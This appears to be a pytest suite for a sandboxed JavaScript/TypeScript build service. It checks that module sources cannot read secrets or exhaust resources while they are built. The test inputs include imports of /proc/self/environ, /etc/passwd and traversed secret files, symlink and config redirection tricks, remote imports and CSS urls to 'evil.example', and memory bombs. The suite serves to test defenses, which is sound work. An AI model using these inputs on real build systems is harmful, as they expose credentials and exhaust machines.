"""What a module's sources may try while they are built: to read the machine, and to eat it."""

import asyncio
import json
import os
import signal
import subprocess
import sys
import textwrap
from dataclasses import replace
from pathlib import Path

import pytest
from millwright_modules.building.metafile import Metafile
from millwright_modules.confinement.process import Limits
from millwright_modules.domain.problem import Refused
from millwright_modules.domain.words import Reason

SECRET = "postgres-password-of-the-plant"


def text(path):
    """Source that puts a file's content into the bundle."""
    return f'import stolen from "{path}" with {{ type: "text" }};\nconsole.log(stolen);\n'


LEAKS = {
    "the environment": text("/proc/self/environ"),
    "the environment as bytes": text("/proc/self/environ").replace('"text"', '"bytes"'),
    "the environment of the service": text("/proc/{pid}/environ"),
    "a file of the machine": text("/etc/passwd"),
    "an absolute text": text("{secret}.txt"),
    "an absolute JSON": 'import stolen from "{secret}.json";\nconsole.log(stolen);\n',
    "an absolute script": 'import stolen from "{secret}.ts";\nconsole.log(stolen);\n',
    "a text above the module": text("../../../secret.txt"),
    "a JSON above the module": 'import stolen from "../../../secret.json";\nconsole.log(stolen);\n',
    "a style above the module": 'import "../../../secret.css";\n',
    "a dynamic import": 'import("../../../secret.json").then(console.log);\n',
    "an asset": 'import stolen from "../../../secret.png";\nconsole.log(stolen);\n',
}


@pytest.fixture
def secret(tmp_path, monkeypatch):
    """A secret in this process's environment and in files outside the module."""
    monkeypatch.setenv("MILLWRIGHT_POSTGRES_PASSWORD", SECRET)
    for suffix, content in {"txt": SECRET, "json": f'"{SECRET}"', "ts": f'export default "{SECRET}"'}.items():
        (tmp_path / f"secret.{suffix}").write_text(content)
    (tmp_path / "secret.css").write_text(f".a {{ content: '{SECRET}' }}")
    (tmp_path / "secret.png").write_text(SECRET)
    return tmp_path / "secret"


async def refusal(build, files, **options):
    """The problems for which a build is refused; each was reported while it ran."""
    with pytest.raises(Refused) as caught:
        await build(files, **options)
    assert all(problem in caught.value.told for problem in caught.value.problems)
    assert SECRET not in str(caught.value.problems)
    return caught.value.problems


@pytest.mark.parametrize("name", LEAKS)
async def test_what_reads_outside_the_module_is_refused_with_file_and_line(name, build, secret):
    source = "const first = 1;\n" + LEAKS[name].replace("{secret}", str(secret)).replace("{pid}", str(os.getpid()))
    (problem,) = await refusal(build, {"src/index.tsx": source})
    assert problem.reason == Reason.IMPORT_FORBIDDEN
    assert (problem.path, problem.line) == ("src/index.tsx", 2)


async def test_a_link_in_the_tree_is_refused(build, secret, tmp_path):
    place = tmp_path / "one" / "source" / "src"
    place.mkdir(parents=True)
    (place / "innocent.txt").symlink_to(f"{secret}.txt")
    (problem,) = await refusal_of_link(build)
    assert problem.reason == Reason.SPECIAL_FILE


async def refusal_of_link(build):
    """The problems of a module with a link; it is found before anything is built."""
    with pytest.raises(Refused) as caught:
        await build({"src/index.tsx": text("./innocent.txt")})
    return caught.value.problems


@pytest.mark.parametrize("made", ["paths", "extends"])
async def test_the_modules_own_tsconfig_leads_nowhere(made, build, secret):
    config = {
        "paths": {"compilerOptions": {"baseUrl": "/", "paths": {"stolen": [f"{secret}.ts"]}}},
        "extends": {"extends": f"{secret}.json"},
    }[made]
    files = {
        "tsconfig.json": json.dumps(config),
        "src/index.tsx": 'import stolen from "stolen";\nconsole.log(stolen);\n',
    }
    (problem,) = await refusal(build, files)
    assert problem.reason == Reason.IMPORT_UNRESOLVED
    assert (problem.path, problem.line, problem.found) == ("src/index.tsx", 1, "stolen")


async def test_the_modules_package_json_puts_no_other_file_in_the_place_of_one(build, secret):
    files = {
        "package.json": json.dumps({"browser": {"./src/own.ts": "../../secret.ts", "stolen": f"{secret}.ts"}}),
        "src/own.ts": 'export default "own";',
        "src/index.tsx": 'import own from "./own";\nconsole.log(own);\n',
    }
    _, built, _ = await build(files)
    assert all(SECRET.encode() not in content for content in built.values())
    files["src/index.tsx"] = 'import stolen from "stolen";\nconsole.log(stolen);\n'
    (problem,) = await refusal(build, files, name="two")
    assert problem.reason == Reason.IMPORT_UNRESOLVED


@pytest.mark.parametrize(
    ("source", "found"),
    [
        ('import x from "https://evil.example/x.js";\nconsole.log(x);\n', "https://evil.example/x.js"),
        ('import x from "react/secret-internals";\nconsole.log(x);\n', "react/secret-internals"),
        ('import("https://evil.example/x.js");\n', "https://evil.example/x.js"),
    ],
)
async def test_an_import_that_browsers_would_fetch_elsewhere_is_refused(source, found, build):
    (problem,) = await refusal(build, {"src/index.tsx": source})
    assert (problem.reason, problem.path, problem.line) == (Reason.IMPORT_UNRESOLVED, "src/index.tsx", 1)
    assert problem.found == found


async def test_a_style_that_fetches_elsewhere_is_refused(build):
    style = ".a { color: red }\n.b { background: url(https://evil.example/pixel.png) }\n"
    (problem,) = await refusal(build, {"src/index.tsx": 'import "./a.css";\n', "src/a.css": style})
    assert (problem.reason, problem.path, problem.line) == (Reason.IMPORT_UNRESOLVED, "src/a.css", 2)


async def test_the_second_net_holds_without_the_first(tmp_path):
    said = b'{"inputs": {"../etc/passwd": {"bytes": 1, "imports": []}}, "outputs": {}}'
    (tmp_path / "said.json").write_bytes(said)
    (problem,) = Metafile(tmp_path / "said.json", "src/index.tsx").breaches(tmp_path, {"src/index.tsx"}, ())
    assert problem.reason == Reason.IMPORT_FORBIDDEN
    assert problem.found == "../etc/passwd"


@pytest.mark.parametrize(
    "bomb",
    {
        "nesting": "(" * 4_000_000,
        "elements": "export default " + "<a>" * 1_000_000,
        "twenty megabytes": "export const rows = [" + "[1,2,{a:[3,4]}]," * 1_300_000 + "];",
    }.items(),
    ids=lambda bomb: bomb[0],
)
async def test_a_bomb_is_ended_at_the_limit_of_memory(bomb, build):
    (problem,) = await refusal(build, {"src/index.tsx": bomb[1]})
    assert problem.reason == Reason.BUILD_OUT_OF_MEMORY
    assert problem.expected == "1024 MiB"
    assert problem.path == "src/index.tsx"


async def test_a_type_without_end_costs_nothing(build):
    source = "type Endless<T> = T extends [infer A, ...infer B] ? Endless<[A, A, ...B]> : Endless<[T, T]>;\n"
    _, built, _ = await build({"src/index.tsx": source + "export const one: Endless<[1]> = 1 as never;\n"})
    assert any(b"one" in content for content in built.values())


async def test_a_type_that_is_nested_without_end_is_ended_at_the_limit(build):
    (problem,) = await refusal(build, {"src/index.tsx": "type Endless = " + "Array<" * 2_000_000})
    assert problem.reason in {Reason.BUILD_OUT_OF_MEMORY, Reason.BUILD_FAILED}


@pytest.mark.parametrize("limits", [{"seconds": 0.02}, {"cpu_seconds": 1, "memory_bytes": 64 << 30}])
async def test_a_build_that_takes_too_long_is_ended(limits, build):
    source = "export const rows = [" + "[1,2,{a:[3,4]}]," * 1_300_000 + "];"
    (problem,) = await refusal(build, {"src/index.tsx": source}, limits=replace(Limits(), **limits))
    assert problem.reason == Reason.BUILD_OUT_OF_TIME


async def test_a_file_larger_than_the_limit_is_not_written(build):
    source = "export const rows = '" + "x" * 200_000 + "';"
    problems = await refusal(build, {"src/index.tsx": source}, limits=replace(Limits(), file_bytes=100_000))
    assert {problem.reason for problem in problems} == {Reason.BUILD_FAILED}
    assert all("file too large" in problem.found for problem in problems)


async def test_cancelling_ends_the_child_before_it_returns(build):
    source = {"src/index.tsx": "export const rows = [" + "[1,2,{a:[3,4]}]," * 1_300_000 + "];"}
    before = children()
    is_building = asyncio.Event()
    options = {
        "limits": replace(Limits(), memory_bytes=8 << 30),
        "hears": lambda told: told[0] == 1 and is_building.set(),
    }
    running = asyncio.ensure_future(build(source, **options))
    await is_building.wait()
    (child,) = children() - before
    running.cancel()
    with pytest.raises(asyncio.CancelledError):
        await running
    assert child not in children()


def children():
    """The processes that this one has begun and that have not ended."""
    return {pid for task in Path("/proc/self/task").iterdir() for pid in (task / "children").read_text().split()}


def test_without_landlock_the_build_refuses_and_says_what_is_possible_instead(esbuild, tmp_path):
    (tmp_path / "source").mkdir()
    (tmp_path / "source" / "index.ts").write_text("export default 1;")
    program = f"""
        import asyncio, errno
        from pathlib import Path
        from millwright_modules.building.builder import Builder
        from millwright_modules.building.toolchain import find
        from millwright_modules.confinement import kernel, seccomp
        from millwright_modules.domain.problem import Refused

        kernel.prctl(38, 1)
        seccomp.refuse([444], errno.ENOSYS)
        place = Path({str(tmp_path)!r})
        builder = Builder(find(Path({str(esbuild.path)!r})), place / "cache")
        try:
            asyncio.run(builder.build(place / "source", "index.ts", place / "out", print, externals=()))
        except Refused as refused:
            (problem,) = refused.problems
            print(problem.reason, problem.hints["en"])
    """
    done = subprocess.run([sys.executable, "-c", textwrap.dedent(program)], capture_output=True, text=True, check=True)
    assert done.stdout.startswith("BUILD_UNAVAILABLE ")
    assert "frontend.prebuilt" in done.stdout
    assert not (tmp_path / "out").exists()


def test_a_child_does_not_outlive_the_service(esbuild, tmp_path):
    program = f"""
        import asyncio, os, signal
        from pathlib import Path
        from millwright_modules.confinement import process
        from millwright_modules.confinement.process import Limits

        async def main():
            command = [{str(esbuild.path)!r}, "--bundle", "--watch=forever", "--outdir=out", "index.ts"]
            place = Path({str(tmp_path)!r})
            asyncio.get_running_loop().call_soon(lambda: None)
            running = asyncio.ensure_future(process.run(command, place, [place], [place], Limits()))
            children = Path("/proc/self/task") / str(os.getpid()) / "children"
            while not children.read_text().split():
                await asyncio.sleep(0)
            print(children.read_text().split()[0], flush=True)
            await running

        asyncio.run(main())
    """
    (tmp_path / "index.ts").write_text("export default 1;")
    service = subprocess.Popen([sys.executable, "-c", textwrap.dedent(program)], stdout=subprocess.PIPE, text=True)
    pid = int(service.stdout.readline())
    handle = os.pidfd_open(pid)
    service.send_signal(signal.SIGKILL)
    service.communicate()
    gone = asyncio.run(readable(handle))
    os.close(handle)
    assert gone


async def readable(handle):
    """Wait until a process has ended."""
    ended = asyncio.Event()
    asyncio.get_running_loop().add_reader(handle, ended.set)
    await asyncio.wait_for(ended.wait(), 10)
    return ended.is_set()
